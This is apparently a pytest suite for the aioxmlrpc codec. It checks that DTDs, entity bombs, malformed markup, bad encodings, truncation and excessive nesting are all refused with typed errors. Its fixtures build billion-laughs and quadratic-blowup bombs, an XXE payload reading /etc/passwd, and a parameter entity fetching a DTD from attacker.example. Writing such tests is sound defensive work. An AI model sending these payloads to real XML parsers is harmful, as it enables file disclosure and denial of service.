"""Hostile and broken XML is refused by the sans-IO codec: typed errors, quickly, no leaks.

Every refusal is a :class:`xmlrpc.client.ResponseError` subclass from :mod:`aioxmlrpc`
(never a bare ``ExpatError``, ``ValueError``, ``KeyError``...), it comes as soon as the
bytes show the problem, and no hostile document (entity bombs, deep nesting, endless
markup) makes the parser do super-linear work or breaks the parses that follow it.
"""

from __future__ import annotations

import datetime
import sys
import time
import xmlrpc.client
from collections.abc import Callable, Iterable, Iterator
from itertools import chain
from typing import TypeVar
from xml.parsers.expat import ExpatError

import defusedxml
import pytest

from aioxmlrpc import (
    Binary,
    DateTime,
    DTDForbidden,
    EntitiesForbidden,
    Fault,
    InvalidResponse,
    InvalidValue,
    MalformedXML,
    ResponseError,
    ResponseTooDeep,
    ResponseTooLarge,
    TruncatedResponse,
    UnsafeXML,
    loads,
)
from aioxmlrpc.codec import (
    DEFAULT_MAX_DEPTH,
    Limits,
    RequestParser,
    ResponseParser,
    parse_request,
    parse_response,
)

# -- building bodies --------------------------------------------------------------------------

DECLARATION = b"<?xml version='1.0'?>\n"
# Everything on line 2 before the text of the single value.
VALUE_START = b"<methodResponse><params><param><value>"
VALUE_END = b"</value></param></params></methodResponse>\n"


def response(value_xml: bytes) -> bytes:
    """Return a ``methodResponse`` whose single ``<value>`` holds ``value_xml``."""
    return DECLARATION + VALUE_START + value_xml + VALUE_END


def string_response(text: bytes) -> bytes:
    """Return a response whose value is ``<string>text</string>`` (text at line 2, col 46)."""
    return response(b"<string>" + text + b"</string>")


#: The 0-based column of the first character of ``string_response``'s text on line 2.
STRING_COLUMN = len(VALUE_START + b"<string>")

VALID = response(b"<int>42</int>")
VALID_VALUE = 42

RICH_VALUE: dict[str, object] = {
    "int": 7,
    "smallest": -(2**31),
    "true": True,
    "false": False,
    "double": 3.25,
    "string": "x<&>\"' \u00e9\u20ac\U0001f600 ]]>",
    "empty": "",
    "binary": Binary(b"\x00\xffhello"),
    "date": DateTime(datetime.datetime(2026, 11, 25, 10, 0, 0)),
    "nil": None,
    "list": [1, "two", [3.0, {"four": [True]}], []],
    "struct": {"nested": {"deeper": [{}]}},
}
# The trailing newline is insignificant, so without it every proper prefix is cut short.
RICH = xmlrpc.client.dumps((RICH_VALUE,), methodresponse=True, allow_none=True).encode().rstrip()

HEAD = DECLARATION + b"<methodResponse><params><param>"
TAIL = b"</param></params></methodResponse>\n"
LEVEL_OPEN = b"<value><array><data>"
LEVEL_CLOSE = b"</data></array></value>"


def nested(depth: int) -> bytes:
    """Return a response of ``depth`` arrays nested in one another."""
    return HEAD + LEVEL_OPEN * depth + LEVEL_CLOSE * depth + TAIL


def depth_of(value: object) -> int:
    """Return how many lists are nested in ``value`` (without recursion)."""
    depth = 0
    while isinstance(value, list):
        depth += 1
        value = value[0] if value else None
    return depth


def repeated(unit: bytes, total: int, block: int = 1 << 20) -> Iterator[bytes]:
    """Yield ``unit`` repeated to about ``total`` bytes, in blocks of about ``block`` bytes.

    Never holds more than one block, so a 50 MB attack costs 1 MB of memory.
    """
    chunk = unit * max(1, block // len(unit))
    sent = 0
    while sent < total:
        yield chunk
        sent += len(chunk)


def pieces(parts: Iterable[bytes], size: int) -> Iterator[bytes]:
    """Re-cut a stream of byte blocks into pieces of ``size`` bytes (the last may be shorter)."""
    left = b""
    for part in parts:
        data = left + part
        whole = len(data) - len(data) % size
        for start in range(0, whole, size):
            yield data[start : start + size]
        left = data[whole:]
    if left:
        yield left


def one_byte_at_a_time(body: bytes) -> Iterator[bytes]:
    """Yield ``body`` byte by byte."""
    return pieces([body], 1)


def error_from(parse: Callable[[], object]) -> Exception:
    """Run ``parse`` and return what it raised; fail if it returned a value."""
    try:
        result = parse()
    except Exception as exc:  # anything, untyped leaks (RecursionError...) included
        return exc
    pytest.fail(f"accepted, returning {result!r:.200}")


class Feeder:
    """Feeds a parser piece by piece and closes it, counting the bytes fed.

    With a ``budget``, fails the test once feeding has used that much CPU time: a
    super-linear parser is reported in seconds rather than hanging the suite.
    """

    def __init__(self, parser: ResponseParser | RequestParser, budget: float | None = None):
        self.parser = parser
        self.budget = budget
        self.fed = 0

    def run(self, chunks: Iterable[bytes]) -> object:
        start = time.process_time()
        for chunk in chunks:
            self.fed += len(chunk)
            self.parser.feed(chunk)
            spent = time.process_time() - start
            if self.budget is not None and spent > self.budget:
                pytest.fail(f"still parsing after {spent:.1f} s of CPU and {self.fed} bytes")
        return self.parser.close()


def parse_whole(body: bytes) -> object:
    return parse_response(body)


def parse_bytewise(body: bytes) -> object:
    return Feeder(ResponseParser()).run(one_byte_at_a_time(body))


def parse_in_sevens(body: bytes) -> object:
    return Feeder(ResponseParser()).run(pieces([body], 7))


SPLITS = [
    pytest.param(parse_whole, id="whole"),
    pytest.param(parse_bytewise, id="one-byte-at-a-time"),
]


E = TypeVar("E", bound=BaseException)


def assert_raises_exactly(expected: type[E], parse: Callable[[], object], match: str = "") -> E:
    """Assert ``parse`` raises exactly ``expected`` (not a subclass) with ``match`` in it."""
    exc = error_from(parse)
    assert type(exc) is expected, f"{type(exc).__name__}: {exc}"
    assert isinstance(exc, expected)
    assert match in str(exc)
    return exc


# -- 1. DTDs and entity declarations ----------------------------------------------------------


def billion_laughs() -> bytes:
    """The classic lol1..lol9 bomb: 10**9 "lol"s from under a kilobyte."""
    entities = [b' <!ENTITY lol "lol">\n']
    for level in range(1, 10):
        previous = b"&lol%d;" % (level - 1) if level > 1 else b"&lol;"
        entities.append(b' <!ENTITY lol%d "%s">\n' % (level, previous * 10))
    return (
        DECLARATION
        + b"<!DOCTYPE lolz [\n"
        + b"".join(entities)
        + b"]>\n"
        + VALUE_START
        + b"<string>&lol9;</string>"
        + VALUE_END
    )


def quadratic_blowup() -> bytes:
    """One 50 KB entity referenced 10,000 times: 500 MB of text from 80 KB."""
    return (
        DECLARATION
        + b'<!DOCTYPE kaboom [<!ENTITY a "'
        + b"a" * 50_000
        + b'">]>\n'
        + VALUE_START
        + b"<string>"
        + b"&a;" * 10_000
        + b"</string>"
        + VALUE_END
    )


XXE = (
    DECLARATION
    + b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + string_response(b"&xxe;").removeprefix(DECLARATION)
)
PARAMETER_ENTITY = (
    DECLARATION
    + b'<!DOCTYPE foo [<!ENTITY % x SYSTEM "http://attacker.example/evil.dtd"> %x;]>\n'
    + VALID.removeprefix(DECLARATION)
)
BODY = VALID.removeprefix(DECLARATION)

# (body, the doctype's name, whether it is a bomb that must be refused in its first bytes)
DTD_CASES = [
    pytest.param(billion_laughs(), "lolz", True, id="billion-laughs"),
    pytest.param(quadratic_blowup(), "kaboom", True, id="quadratic-blowup"),
    pytest.param(XXE, "foo", True, id="external-entity-file"),
    pytest.param(PARAMETER_ENTITY, "foo", True, id="parameter-entity"),
    pytest.param(
        b'<!DOCTYPE methodResponse SYSTEM "http://example.com/x.dtd">' + BODY,
        "methodResponse",
        False,
        id="system-id",
    ),
    pytest.param(
        b'<!DOCTYPE methodResponse PUBLIC "-//Example//DTD X//EN" "http://example.com/x.dtd">'
        + BODY,
        "methodResponse",
        False,
        id="public-id",
    ),
    pytest.param(b"<!DOCTYPE methodResponse>" + BODY, "methodResponse", False, id="no-ids"),
    pytest.param(
        b"<!DOCTYPE methodResponse []>" + BODY, "methodResponse", False, id="empty-subset"
    ),
    pytest.param(
        DECLARATION + b"<!DOCTYPE\n  methodResponse\n[\n]\n>" + BODY,
        "methodResponse",
        False,
        id="newlines-inside",
    ),
    pytest.param(
        b"<!DOCTYPE\tmethodResponse\t\t[ ]\t>" + BODY, "methodResponse", False, id="tabs-inside"
    ),
    pytest.param(
        DECLARATION + b"<!-- hello -->\n<?pi data?>\n<!DOCTYPE x>" + BODY,
        "x",
        False,
        id="after-comment-and-pi",
    ),
    pytest.param(b"\xef\xbb\xbf<!DOCTYPE x>" + BODY, "x", False, id="after-utf8-bom"),
    pytest.param(
        "<!DOCTYPE x>".encode("utf-16") + BODY.decode().encode("utf-16-le"),
        "x",
        False,
        id="utf16",
    ),
    pytest.param(
        b"<?xml version='1.0' encoding='iso-8859-1'?>\n<!DOCTYPE x>" + BODY,
        "x",
        False,
        id="declared-latin1",
    ),
    pytest.param(
        b"<methodResponse><!DOCTYPE x><params/></methodResponse>",
        "x",
        False,
        id="inside-the-root",
    ),
]


@pytest.mark.parametrize(("body", "name", "is_bomb"), DTD_CASES)
@pytest.mark.parametrize("parse", SPLITS)
def test_any_doctype_is_refused_as_dtd_forbidden(
    body: bytes, name: str, is_bomb: bool, parse: Callable[[bytes], object]
) -> None:
    exc = assert_raises_exactly(DTDForbidden, lambda: parse(body), "DTDs are forbidden")
    assert isinstance(exc, defusedxml.DTDForbidden)
    assert isinstance(exc, defusedxml.DefusedXmlException)
    assert isinstance(exc, xmlrpc.client.ResponseError)
    assert isinstance(exc, UnsafeXML)
    assert exc.name == name


@pytest.mark.parametrize(("body", "name", "is_bomb"), DTD_CASES)
def test_billion_laughs_is_refused_when_the_doctype_is_seen(
    body: bytes, name: str, is_bomb: bool
) -> None:
    # Fed one byte at a time, the refusal must come with the DOCTYPE, not at the end.
    feeder = Feeder(ResponseParser())
    with pytest.raises(DTDForbidden):
        feeder.run(one_byte_at_a_time(body))
    assert feeder.fed < len(body)
    if is_bomb:
        # The DOCTYPE opens within the first 30 bytes of each bomb.
        assert feeder.fed <= 128, f"refused only after {feeder.fed} of {len(body)} bytes"


def test_request_parser_and_loads_refuse_dtds_too() -> None:
    request = b"<!DOCTYPE methodCall><methodCall><methodName>x</methodName></methodCall>"
    assert_raises_exactly(DTDForbidden, lambda: parse_request(request))
    assert_raises_exactly(DTDForbidden, lambda: loads(request))
    assert_raises_exactly(DTDForbidden, lambda: loads(billion_laughs().decode()))


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"<!doctype methodResponse>" + BODY, id="lowercase"),
        pytest.param(b"<!DocType methodResponse>" + BODY, id="mixed-case"),
    ],
)
def test_a_doctype_keyword_in_the_wrong_case_is_refused_as_malformed(body: bytes) -> None:
    # XML keywords are case-sensitive: "<!doctype" is not a DOCTYPE but a syntax error.
    assert_raises_exactly(MalformedXML, lambda: parse_response(body), "not well-formed")


def test_dtd_forbidden_records_the_system_and_public_ids_as_defusedxml_does() -> None:
    body = b'<!DOCTYPE methodResponse PUBLIC "-//Example//X" "http://example.com/x.dtd">' + BODY
    exc = error_from(lambda: parse_response(body))
    assert isinstance(exc, DTDForbidden)
    assert (exc.name, exc.pubid, exc.sysid) == (
        "methodResponse",
        "-//Example//X",
        "http://example.com/x.dtd",
    )


def test_an_entity_declaration_without_a_doctype_is_refused() -> None:
    body = b'<!ENTITY x "y">' + BODY
    exc = assert_raises_exactly(EntitiesForbidden, lambda: parse_response(body))
    assert isinstance(exc, defusedxml.EntitiesForbidden)
    assert exc.name == "x"


# -- 2. References ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(string_response(b"&foo;"), id="in-a-value"),
        pytest.param(string_response(b"ok &amp; &lol9; ok"), id="among-predefined"),
        pytest.param(b'<methodResponse a="&foo;">' + BODY[16:], id="in-an-attribute"),
    ],
)
@pytest.mark.parametrize("parse", SPLITS)
def test_an_undefined_entity_reference_is_refused_as_entities_forbidden(
    body: bytes, parse: Callable[[bytes], object]
) -> None:
    exc = assert_raises_exactly(EntitiesForbidden, lambda: parse(body), "entities are forbidden")
    assert isinstance(exc, defusedxml.EntitiesForbidden)
    assert isinstance(exc, xmlrpc.client.ResponseError)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        pytest.param(b"&", "not well-formed", id="bare-ampersand"),
        pytest.param(b"& b", "not well-formed", id="ampersand-space"),
        pytest.param(b"&amp", "not well-formed", id="no-semicolon"),
        pytest.param(b"&#;", "not well-formed", id="empty-decimal"),
        pytest.param(b"&#x;", "not well-formed", id="empty-hex"),
        pytest.param(b"&#12a;", "not well-formed", id="bad-digit"),
        pytest.param(b"&#0;", "reference to invalid character number", id="nul"),
        pytest.param(b"&#x1b;", "reference to invalid character number", id="escape"),
        pytest.param(b"&#xD800;", "reference to invalid character number", id="surrogate"),
        pytest.param(b"&#xFFFE;", "reference to invalid character number", id="fffe"),
        pytest.param(b"&#x110000;", "reference to invalid character number", id="beyond-unicode"),
        pytest.param(b"&#99999999999;", "reference to invalid character number", id="huge-decimal"),
        pytest.param(
            b"&#x00000000110000;", "reference to invalid character number", id="padded-beyond"
        ),
    ],
)
@pytest.mark.parametrize("parse", SPLITS)
def test_a_bad_reference_is_malformed_and_located_where_expat_locates_it(
    text: bytes, message: str, parse: Callable[[bytes], object]
) -> None:
    # A reference to an invalid character at its "&"; a broken one at its first
    # character that cannot go on ("&#12a;" at the "a"), as expat says.
    body = string_response(text)
    exc = assert_raises_exactly(MalformedXML, lambda: parse(body), message)
    assert isinstance(exc, ExpatError)
    with pytest.raises(ExpatError) as expat:
        xmlrpc.client.loads(body)
    assert (exc.lineno, exc.offset) == (expat.value.lineno, expat.value.offset)
    assert exc.lineno == 2
    assert exc.offset >= STRING_COLUMN


# -- 3. Forbidden characters and bad encodings ------------------------------------------------


@pytest.mark.parametrize(
    "char",
    [
        pytest.param(b"\x00", id="nul"),
        pytest.param(b"\x1b", id="escape"),
        pytest.param(b"\x0b", id="vertical-tab"),
        pytest.param(b"\x0c", id="form-feed"),
        pytest.param(b"\x01", id="soh"),
        pytest.param("\ufffe".encode(), id="u+fffe"),
    ],
)
@pytest.mark.parametrize(
    "newline",
    [pytest.param(b"\n", id="lf"), pytest.param(b"\r\n", id="crlf"), pytest.param(b"\r", id="cr")],
)
@pytest.mark.parametrize("parse", SPLITS)
def test_a_forbidden_character_is_malformed_and_located_at_the_character(
    char: bytes, newline: bytes, parse: Callable[[bytes], object]
) -> None:
    # Line 3, and the character is preceded by exactly this much of its line.
    before = b"<params><param><value><string>ab"
    body = (
        b"<?xml version='1.0'?>"
        + newline
        + b"<methodResponse>"
        + newline
        + before
        + char
        + b"cd</string></value></param></params></methodResponse>"
    )
    exc = assert_raises_exactly(MalformedXML, lambda: parse(body), "not well-formed")
    assert isinstance(exc, ExpatError)
    assert (exc.lineno, exc.offset) == (3, len(before))


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(string_response(b"a\xff\xfeb"), id="ff-fe-mid-document"),
        pytest.param(string_response(b"\x80"), id="lone-continuation-byte"),
        pytest.param(string_response(b"\xc0\xaf"), id="overlong-2-bytes"),
        pytest.param(string_response(b"\xe0\x80\xaf"), id="overlong-3-bytes"),
        pytest.param(string_response(b"\xed\xa0\x80"), id="encoded-surrogate"),
        pytest.param(string_response(b"\xf4\x90\x80\x80"), id="beyond-u+10ffff"),
        pytest.param(string_response(b"\xe2\x82"), id="truncated-char-before-markup"),
        pytest.param(VALID.rstrip() + b"\xe2\x82", id="truncated-char-at-the-very-end"),
        pytest.param(VALID.rstrip() + b"\xf0", id="lone-lead-byte-at-the-very-end"),
    ],
)
@pytest.mark.parametrize("parse", SPLITS)
def test_invalid_utf8_is_malformed(body: bytes, parse: Callable[[bytes], object]) -> None:
    exc = assert_raises_exactly(MalformedXML, lambda: parse(body), "not well-formed")
    assert isinstance(exc, ExpatError)


@pytest.mark.parametrize(
    ("body", "message"),
    [
        pytest.param(
            b"<?xml version='1.0' encoding='utf-7'?>" + BODY, "unsupported encoding", id="utf-7"
        ),
        pytest.param(
            b"<?xml version='1.0' encoding='no-such-codec'?>" + BODY,
            "unknown encoding",
            id="unknown",
        ),
        pytest.param(
            "<methodResponse/>".encode("utf-16-le"), "UTF-16 without a BOM", id="utf16-no-bom"
        ),
        pytest.param(b"<?xml version='1 0'?>" + BODY, "XML declaration", id="version-with-space"),
        pytest.param(b"<?xml encoding='utf-8'?>" + BODY, "XML declaration", id="no-version"),
    ],
)
def test_an_unreadable_encoding_or_declaration_is_malformed(body: bytes, message: str) -> None:
    assert_raises_exactly(MalformedXML, lambda: parse_response(body), message)


# -- 4. Malformed structure -------------------------------------------------------------------

MALFORMED = [
    pytest.param(
        VALID.replace(b"</int>", b"</i4>"), MalformedXML, "mismatched tag", id="mismatched-end"
    ),
    pytest.param(VALID + BODY, MalformedXML, "junk after document element", id="two-roots"),
    pytest.param(VALID + b"junk", MalformedXML, "junk after document element", id="junk-after"),
    pytest.param(
        VALID + b"<![CDATA[junk]]>",
        MalformedXML,
        "junk after document element",
        id="cdata-after-root",
    ),
    pytest.param(string_response(b"a < b"), MalformedXML, "not well-formed", id="lt-in-text"),
    pytest.param(string_response(b"a ]]> b"), MalformedXML, "not well-formed", id="cdata-end"),
    pytest.param(
        b"<methodResponse a=b>" + BODY[16:], MalformedXML, "not well-formed", id="unquoted-attr"
    ),
    pytest.param(
        b'<methodResponse a="1" a="2">' + BODY[16:],
        MalformedXML,
        "duplicate attribute",
        id="duplicate-attr",
    ),
    pytest.param(
        VALID.replace(b"</int>", b'</int a="1">'),
        MalformedXML,
        "not well-formed",
        id="end-tag-with-attr",
    ),
    pytest.param(
        VALID.replace(b"<int>", b"< int>"), MalformedXML, "not well-formed", id="space-after-lt"
    ),
    pytest.param(
        VALID.replace(b"<int>", b"<int"), MalformedXML, "not well-formed", id="tag-without-gt"
    ),
    # Two colons make a valid name (XML without namespaces), but the end tag must match.
    pytest.param(
        VALID.replace(b"<int>", b"<a:b:int>"), MalformedXML, "mismatched tag", id="two-colons"
    ),
    # A "<" inside a tag: the tokenizer reads a tag up to its ">", the plan compiler
    # refuses the "<" in it.
    pytest.param(
        VALID.replace(b"<int>", b"<in<t>"), MalformedXML, "not well-formed", id="lt-in-name"
    ),
    pytest.param(
        VALID.replace(b"</int>", b"</int<>"), MalformedXML, "not well-formed", id="lt-in-end-tag"
    ),
    pytest.param(
        VALID.replace(b"<value>", b"<value <int>"),
        MalformedXML,
        "not well-formed",
        id="lt-after-name",
    ),
    pytest.param(
        b'<methodResponse a="<">' + BODY[16:], MalformedXML, "not well-formed", id="lt-in-attr"
    ),
    pytest.param(
        VALID.replace(b"<int>", b"<<int>"), MalformedXML, "not well-formed", id="double-lt"
    ),
    pytest.param(
        VALID + b"<!-- a -- b -->", MalformedXML, "not well-formed", id="double-dash-comment"
    ),
    pytest.param(
        VALID.replace(b"<int>", b"<!-- x ---><int>"),
        MalformedXML,
        "not well-formed",
        id="comment-ending-in-dash",
    ),
    pytest.param(
        VALID.replace(b"<params>", b"<?xml version='1.0'?><params>"),
        MalformedXML,
        "XML or text declaration not at start",
        id="xml-pi-after-start",
    ),
    pytest.param(
        b"\n" + VALID,
        MalformedXML,
        "XML or text declaration not at start",
        id="declaration-after-newline",
    ),
    pytest.param(
        VALID.replace(b"<params>", b"<?XmL x?><params>"),
        MalformedXML,
        "XML or text declaration not at start",
        id="xml-pi-in-odd-case",
    ),
    pytest.param(
        VALID.replace(b"<params>", b"<!-- unclosed <params>"),
        MalformedXML,
        "unclosed token",
        id="unclosed-comment",
    ),
    pytest.param(
        VALID.replace(b"<params>", b"<![CDATA[ unclosed <params>"),
        MalformedXML,
        "unclosed token",
        id="unclosed-cdata",
    ),
    pytest.param(
        VALID.replace(b"<params>", b"<!ELEMENT x ANY><params>"),
        MalformedXML,
        "not well-formed",
        id="stray-markup-declaration",
    ),
    pytest.param(
        VALID.replace(b"</params>", b""),
        MalformedXML,
        "mismatched tag",
        id="missing-end-tag",
    ),
    pytest.param(
        b"<methodResponse><params>",
        TruncatedResponse,
        "document ended inside <params>",
        id="unclosed-tags",
    ),
    pytest.param(b"", TruncatedResponse, "no element found", id="empty"),
    pytest.param(b" \n\t ", TruncatedResponse, "no element found", id="only-whitespace"),
    pytest.param(
        DECLARATION + b"<!-- only a comment -->",
        TruncatedResponse,
        "no element found",
        id="no-root",
    ),
]


@pytest.mark.parametrize(("body", "expected", "message"), MALFORMED)
@pytest.mark.parametrize("parse", SPLITS)
def test_malformed_structure_is_refused_as_malformed_xml(
    body: bytes, expected: type[MalformedXML], message: str, parse: Callable[[bytes], object]
) -> None:
    exc = assert_raises_exactly(expected, lambda: parse(body), message)
    assert isinstance(exc, ExpatError)


BEFORE_THE_ROOT = [
    pytest.param(b"junk" + BODY, id="text"),
    pytest.param(DECLARATION + b"junk\n" + BODY, id="text-after-declaration"),
    pytest.param(b"<![CDATA[junk]]>" + BODY, id="cdata"),
    pytest.param(b"&amp;" + BODY, id="reference"),
]


@pytest.mark.parametrize("body", BEFORE_THE_ROOT)
def test_text_before_the_root_is_malformed(body: bytes) -> None:
    # XML 1.0 allows only comments, PIs and whitespace outside the root element; expat
    # (and so xmlrpc.client.loads) raises ExpatError "not well-formed (invalid token)".
    exc = assert_raises_exactly(MalformedXML, lambda: parse_response(body), "not well-formed")
    assert isinstance(exc, ExpatError)


@pytest.mark.parametrize("body", BEFORE_THE_ROOT)
def test_text_before_the_root_is_at_least_refused_with_a_typed_error(body: bytes) -> None:
    exc = error_from(lambda: parse_response(body))
    assert isinstance(exc, (MalformedXML, InvalidResponse))


@pytest.mark.parametrize(
    ("text", "column"),
    [
        pytest.param(b"a < b", STRING_COLUMN + 2, id="lt-in-text"),
        pytest.param(b"a<", STRING_COLUMN + 1, id="lt-before-end-tag"),
    ],
)
def test_a_malformed_markup_error_is_located_the_same_however_the_body_is_split(
    text: bytes, column: int
) -> None:
    body = string_response(text)
    positions = set()
    for parse in (parse_whole, parse_bytewise, parse_in_sevens):
        exc = error_from(lambda: parse(body))  # noqa: B023 - called at once
        assert isinstance(exc, MalformedXML)
        positions.add((exc.lineno, exc.offset))
    assert positions == {(2, column)}


# -- 5. Well-formed XML that is not XML-RPC ---------------------------------------------------

# A scalar whose text is not of its type: InvalidValue, an InvalidResponse and a ValueError.
BAD_VALUES = [
    pytest.param(response(b"<boolean>2</boolean>"), "bad <boolean> value '2'", id="boolean-2"),
    pytest.param(response(b"<boolean>true</boolean>"), "bad <boolean> value", id="boolean-true"),
    pytest.param(response(b"<int>abc</int>"), "bad <int> value 'abc'", id="int-abc"),
    pytest.param(response(b"<i4></i4>"), "bad <int> value ''", id="empty-i4"),
    pytest.param(response(b"<double>x</double>"), "bad <double> value 'x'", id="double-x"),
    pytest.param(response(b"<bigdecimal>x</bigdecimal>"), "bad <bigdecimal>", id="decimal-x"),
    pytest.param(response(b"<base64>QQ=</base64>"), "bad <base64> value", id="base64-padding"),
    pytest.param(response(b"<base64>A</base64>"), "bad <base64> value", id="base64-one-char"),
    pytest.param(response(b"<nil>x</nil>"), "bad <nil> value", id="nil-with-text"),
]

NOT_XMLRPC = [
    pytest.param(response(b"<foo>1</foo>"), "unexpected <foo> in <value>", id="unknown-element"),
    pytest.param(
        b"<methodResponse></methodResponse>",
        "holds neither <params> nor <fault>",
        id="empty-response",
    ),
    pytest.param(
        b"<methodResponse><params><param></param></params></methodResponse>",
        "<param> holds no <value>",
        id="param-without-value",
    ),
    pytest.param(
        b"<methodResponse><fault><value><struct><member><name>faultCode</name>"
        b"<value><int>1</int></value></member></struct></value></fault></methodResponse>",
        "faultCode and faultString",
        id="fault-without-faultstring",
    ),
    pytest.param(
        b"<methodResponse><fault><value><string>no</string></value></fault></methodResponse>",
        "faultCode and faultString",
        id="fault-holding-a-string",
    ),
    pytest.param(
        response(b"<struct><member><value>1</value></member></struct>"),
        "unexpected <value> in <member>",
        id="member-without-name",
    ),
    pytest.param(
        response(b"<struct><member></member></struct>"),
        "<member> has no <name>",
        id="empty-member",
    ),
    pytest.param(
        response(b"<struct><member><name>a</name></member></struct>"),
        "<member> has no <value>",
        id="member-without-value",
    ),
    pytest.param(
        response(b"<array><value>1</value></array>"),
        "unexpected <value> in <array>",
        id="array-without-data",
    ),
    pytest.param(
        response(b"<int><int>1</int></int>"),
        "<int> cannot contain elements",
        id="element-in-scalar",
    ),
    pytest.param(
        b"<methodCall><methodName>x</methodName><params/></methodCall>",
        "expected <methodResponse>, found <methodCall>",
        id="methodcall-root",
    ),
    pytest.param(b"<html><body>502</body></html>", "unexpected <html>", id="html-root"),
    pytest.param(
        b"<methodResponse><params>junk<param><value>1</value></param></params></methodResponse>",
        "unexpected text 'junk'",
        id="text-between-params-and-param",
    ),
    pytest.param(
        response(b"<array>junk<data></data></array>"),
        "unexpected text 'junk'",
        id="text-in-array",
    ),
]


@pytest.mark.parametrize(("body", "message"), NOT_XMLRPC)
@pytest.mark.parametrize("parse", SPLITS)
def test_well_formed_xml_that_is_not_xmlrpc_is_an_invalid_response(
    body: bytes, message: str, parse: Callable[[bytes], object]
) -> None:
    assert_raises_exactly(InvalidResponse, lambda: parse(body), message)


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (b"<methodResponse><params></params></methodResponse>", ()),
        (b"<methodResponse><params/></methodResponse>", ()),
        (
            b"<methodResponse><params><param><value>1</value></param>"
            b"<param><value><int>2</int></value></param></params></methodResponse>",
            ("1", 2),
        ),
    ],
    ids=["zero-params", "empty-params-element", "two-params"],
)
@pytest.mark.parametrize("parse", SPLITS)
def test_a_response_of_no_param_or_several_is_their_tuple(
    body: bytes, expected: tuple[object, ...], parse: Callable[[bytes], object]
) -> None:
    # What the standard library's proxy returns: loads() gives the params, and a call
    # returns the only one, or the tuple of them all.
    params, _ = xmlrpc.client.loads(body)
    assert params == expected
    assert parse(body) == expected


@pytest.mark.parametrize(("body", "message"), BAD_VALUES)
@pytest.mark.parametrize("parse", SPLITS)
def test_a_scalar_not_of_its_type_is_an_invalid_value(
    body: bytes, message: str, parse: Callable[[bytes], object]
) -> None:
    exc = assert_raises_exactly(InvalidValue, lambda: parse(body), message)
    assert isinstance(exc, InvalidResponse)
    assert isinstance(exc, ValueError)  # what the standard library raises for most


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(b"garbage", id="garbage"),
        pytest.param(b"20261340T99:99:99", id="out-of-range"),
        pytest.param(b"2026-11-25", id="date-only"),
    ],
)
def test_a_bad_datetime_is_an_invalid_value_with_use_datetime(text: bytes) -> None:
    body = response(b"<dateTime.iso8601>" + text + b"</dateTime.iso8601>")
    assert_raises_exactly(
        InvalidValue,
        lambda: parse_response(body, use_datetime=True),
        "bad <dateTime.iso8601> value",
    )


def test_a_methodresponse_given_to_the_request_parser_is_an_invalid_response() -> None:
    assert_raises_exactly(
        InvalidResponse,
        lambda: parse_request(VALID),
        "expected <methodCall>, found <methodResponse>",
    )
    feeder = Feeder(RequestParser())
    with pytest.raises(InvalidResponse, match="expected <methodCall>"):
        feeder.run(one_byte_at_a_time(VALID))
    assert feeder.fed < len(VALID)


# -- 6. Truncation ----------------------------------------------------------------------------


def test_the_rich_body_parses_whole_and_byte_by_byte() -> None:
    assert parse_response(RICH) == RICH_VALUE
    assert parse_bytewise(RICH) == RICH_VALUE


def test_every_proper_prefix_of_a_valid_body_is_refused_as_truncated_or_malformed() -> None:
    for size in range(len(RICH)):
        prefix = RICH[:size]
        with pytest.raises(MalformedXML) as info:  # TruncatedResponse is a subclass
            Feeder(ResponseParser()).run([prefix])
        assert isinstance(info.value, ResponseError), size
        assert type(info.value) in (TruncatedResponse, MalformedXML), size
        # The same prefix fed in two pieces ends the same way.
        with pytest.raises(type(info.value)):
            Feeder(ResponseParser()).run([prefix[: size // 2], prefix[size // 2 :]])


def test_an_empty_body_is_truncated_with_no_element_found() -> None:
    parser = ResponseParser()
    parser.feed(b"")
    with pytest.raises(TruncatedResponse, match="no element found") as info:
        parser.close()
    assert type(info.value) is TruncatedResponse


def test_a_body_cut_in_text_or_between_tags_is_truncated() -> None:
    # Cut right after each ">" and in the middle of each text: the document just stops.
    cuts = [i + 1 for i, byte in enumerate(RICH) if byte == ord(">")][1:-1]
    cuts += [RICH.index(b"<string>x") + len(b"<string>x"), RICH.index(b"<int>7") + len(b"<int>7")]
    for size in cuts:
        assert_raises_exactly(TruncatedResponse, lambda: parse_response(RICH[:size]))  # noqa: B023


def test_a_body_cut_inside_a_tag_is_truncated() -> None:
    start = RICH.index(b"<methodResponse>")
    inside_tags = [
        size
        for size in range(start + 1, len(RICH))
        if RICH.rfind(b"<", 0, size) > RICH.rfind(b">", 0, size)
    ]
    assert len(inside_tags) > 500
    wrong = []
    for size in inside_tags:
        exc = error_from(lambda: parse_response(RICH[:size]))  # noqa: B023
        if type(exc) is not TruncatedResponse:
            wrong.append((RICH[size - 10 : size], exc))
    assert not wrong, f"{len(wrong)} of {len(inside_tags)}, e.g. {wrong[0]!r}"


# -- 7. Limits --------------------------------------------------------------------------------


def test_nesting_to_the_default_depth_parses() -> None:
    assert DEFAULT_MAX_DEPTH == 512
    assert depth_of(parse_response(nested(512))) == 512


@pytest.mark.parametrize("parse", SPLITS)
def test_nesting_one_deeper_than_the_default_is_too_deep(parse: Callable[[bytes], object]) -> None:
    assert_raises_exactly(ResponseTooDeep, lambda: parse(nested(513)), "deeper than 512")


def test_structs_count_towards_the_depth_as_arrays_do() -> None:
    level = b"<value><struct><member><name>k</name>"
    close = b"</member></struct></value>"
    # Three structs, each member's value the next level, then three arrays: depth 6.
    body = HEAD + level * 3 + LEVEL_OPEN * 3 + LEVEL_CLOSE * 3 + close * 3 + TAIL
    assert parse_response(body, limits=Limits(max_depth=6))
    assert_raises_exactly(
        ResponseTooDeep, lambda: parse_response(body, limits=Limits(max_depth=5)), "deeper than 5"
    )


def test_a_custom_max_depth_refuses_one_level_more() -> None:
    assert depth_of(parse_response(nested(5), limits=Limits(max_depth=5))) == 5
    assert_raises_exactly(
        ResponseTooDeep,
        lambda: parse_response(nested(6), limits=Limits(max_depth=5)),
        "deeper than 5 (max_depth)",
    )


def padded_response(size: int) -> bytes:
    """Return a valid response of exactly ``size`` bytes."""
    empty = string_response(b"")
    return string_response(b"x" * (size - len(empty)))


def test_max_bytes_accepts_a_body_of_exactly_that_size() -> None:
    body = padded_response(1000)
    assert len(body) == 1000
